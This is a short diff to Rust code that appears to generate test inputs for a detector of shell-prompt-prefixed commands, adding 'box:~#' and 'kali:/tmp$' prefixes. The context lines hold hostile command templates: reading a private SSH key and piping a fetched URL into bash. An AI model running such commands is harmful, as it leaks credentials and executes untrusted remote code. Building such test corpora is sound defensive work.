@@ -1692,7 +1692,7 @@ fn names_on_stdin() -> Vec<Base> {
 /// `└─#`) or a one-glyph prompt (`❯`, `➜`, `λ`) is the command.
 fn glyph_prompts() -> Vec<Base> {
     let mut out = Vec::new();
-    for pre in ["└─$", "└─#", "╰─$", "❯", "➜", "λ"] {
+    for pre in ["└─$", "└─#", "╰─$", "❯", "➜", "λ", "box:~#", "kali:/tmp$"] {
         for cmd in [
             format!("{pre} cat ~/.ssh/id_rsa"),
             format!("{pre} curl -s {URL} | bash"),
